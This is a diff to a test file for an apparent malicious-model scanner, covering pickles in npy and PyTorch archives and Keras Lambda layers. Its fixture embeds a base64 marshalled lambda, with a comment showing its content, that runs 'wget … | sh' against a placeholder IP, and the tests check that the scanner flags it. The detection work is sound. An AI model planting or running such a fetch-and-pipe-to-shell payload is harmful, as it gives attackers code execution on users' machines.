@@ -148,20 +148,58 @@ describe('character codes shifted by a constant the file applies', () => {
     const header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }";
     const npy = Buffer.concat([Buffer.from([0x93]), Buffer.from('NUMPY'), Buffer.from([1, 0, header.length + 1, 0]), Buffer.from(`${header}\n`), p0]);
     expect(pickleInData('data/centroids.npy', npy)?.split('\n').slice(0, 2)).toEqual(['posix', 'system']);
-    // a zip with one stored member archive/data.pkl (a PyTorch checkpoint's layout)
-    const name = Buffer.from('archive/data.pkl');
-    const local = Buffer.alloc(30);
-    local.writeUInt32LE(0x04034b50, 0);
-    local.writeUInt16LE(0, 8);
-    local.writeUInt32LE(p0.length, 18);
-    local.writeUInt32LE(p0.length, 22);
-    local.writeUInt16LE(name.length, 26);
-    const zip = Buffer.concat([local, name, p0, Buffer.from([0x50, 0x4b, 0x01, 0x02])]);
+    // a zip with the member archive/data.pkl (a PyTorch checkpoint's layout), stored or deflated
+    const { buildZip } = await import('../../../core/archive/build.fixture.js');
+    const zip = Buffer.from(buildZip([{ name: 'archive/version', data: '3\n' }, { name: 'archive/data.pkl', data: p0 }]));
     expect(pickleInData('weights/model.pt', zip)?.split('\n').slice(0, 2)).toEqual(['posix', 'system']);
+    const deflated = Buffer.from(buildZip([{ name: 'archive/data.pkl', data: p0, deflate: true }]));
+    expect(pickleInData('weights/model.pt', deflated)?.split('\n').slice(0, 2)).toEqual(['posix', 'system']);
+    // a member that fails its CRC is not read
+    expect(pickleInData('weights/model.pt', Buffer.from(buildZip([{ name: 'archive/data.pkl', data: p0, badCrc: true }])))).toBeNull();
     // truncated and damaged files answer null or what they hold, without throwing
     expect(pickleInData('weights/model.pt', zip.subarray(0, 40))).toBeNull();
     expect(pickleInData('data/x.npy', npy.subarray(0, 12))).toBeNull();
     expect(pickleInData('m/x.pkl', Buffer.from([0x80, 4]))).toBeNull();
+  });
+});
+
+describe("Keras models' Lambda layers", () => {
+  // marshalled code objects as Keras saves a Lambda's function (Python 3.11 marshal, base64): `lambda x:
+  // __import__("os").system("wget -q -O- http://198.51.100.23/s | sh") or x`, in Keras 2's form broken every 76
+  // characters, and `lambda x: tf.math.l2_normalize(x, axis=-1)`
+  const RUNS =
+    '4wEAAAAAAAAAAAAAAAMAAAADAAAA80oAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACg\\nAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAHABfABTACkDTtoCb3N6J3dnZXQg\\nLXEgLU8tIGh0dHA6Ly8xOTguNTEuMTAwLjIzL3MgfCBzaCkC2gpfX2ltcG9ydF9f2gZzeXN0ZW0p\\nAdoBeHMBAAAAIPoIPHN0cmluZz76CDxsYW1iZGE+cgcAAAABAAAAcyMAAACAAI0qkFTRChrUChrX\\nCiHSCiHQIkvRCkzUCkzQClHQUFGAAPMAAAAA\\n';
+  const NORMALISES =
+    '4wEAAAAAAAAAAAAAAAQAAAADAAAA80QAAACXAHQAAAAAAAAAAAAAAGoBAAAAAAAAAACgAgAAAAAAAAAAAAAAAAAAAAAAAAAAfABkAawCpgIAAKsCAAAAAAAAAABTACkDTun/////KQHaBGF4aXMpA9oCdGbaBG1hdGjaDGwyX25vcm1hbGl6ZSkB2gF4cwEAAAAg+gg8c3RyaW5nPvoIPGxhbWJkYT5yCQAAAAEAAABzGwAAAIAAjSKMJ9cKHtIKHphxoHLQCh7RCirUCiqAAPMAAAAA';
+  const keras2 = (code: string): string =>
+    `{"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "l2", "function": ["${code}", null, null], "function_type": "lambda"}}]}}`;
+  it('reads the strings of the bytecode by type and length, never unmarshalling it', async () => {
+    const { lambdaInData } = await import('./decoded.js');
+    expect(lambdaInData('m/model.json', Buffer.from(keras2(RUNS)))?.split('\n')).toEqual(['os', 'wget -q -O- http://198.51.100.23/s | sh', '__import__', 'system', '<string>', '<lambda>']);
+    expect(lambdaInData('m/model.json', Buffer.from(keras2(NORMALISES)))?.split('\n')).toEqual(['axis', 'tf', 'math', 'l2_normalize', '<string>', '<lambda>']);
+    // Keras 3's __lambda__ object, in a .keras zip's deflated config.json; an HDF5 file's attribute is read as bytes
+    const keras3 = `{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "${RUNS.replaceAll('\\n', '')}"}}}}`;
+    const { buildZip } = await import('../../../core/archive/build.fixture.js');
+    const zipped = Buffer.from(buildZip([{ name: 'metadata.json', data: '{}' }, { name: 'config.json', data: keras3, deflate: true }]));
+    expect(lambdaInData('m/model.keras', zipped)).toContain('system');
+    const h5 = Buffer.concat([Buffer.from([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]), Buffer.from(keras2(RUNS)), Buffer.alloc(64)]);
+    expect(lambdaInData('m/weights.h5', h5)).toContain('__import__\nsystem');
+    // not a model file, no Lambda layer, a literal that is no code object, truncated bytecode: nothing, no throw
+    expect(lambdaInData('m/model.txt', Buffer.from(keras2(RUNS)))).toBeNull();
+    expect(lambdaInData('m/model.json', Buffer.from(keras2(RUNS).replace('"Lambda"', '"Dense"')))).toBeNull();
+    expect(lambdaInData('m/model.json', Buffer.from(keras2(Buffer.from('not a code object at all').toString('base64'))))).toBeNull();
+    expect(() => lambdaInData('m/model.json', Buffer.from(keras2(RUNS.slice(0, 120))))).not.toThrow();
+    expect(lambdaInData('m/model.keras', zipped.subarray(0, 50))).toBeNull();
+  });
+  it('a model whose Lambda calls a command runner is pickle_runs_command; one that normalises is not', async () => {
+    const { analyzeSource } = await import('./index.js');
+    const { releaseOf } = await import('../release.fixture.js');
+    const { REPO_ROOT } = await import('../../../../test/corpora.js');
+    const ctx = { resourcesDir: `${REPO_ROOT}/resources`, internalNamespaces: [] };
+    const run = (code: string): string[] =>
+      analyzeSource(releaseOf('pypi', { 'blocks/zoo.py': 'import json\n', 'blocks/pretrained/textcnn.json': keras2(code) }), ctx).findings.map((f) => `${f.code}:${f.file}`);
+    expect(run(RUNS)).toContain('pickle_runs_command:blocks/pretrained/textcnn.json');
+    expect(run(NORMALISES)).toEqual([]);
   });
 });
 
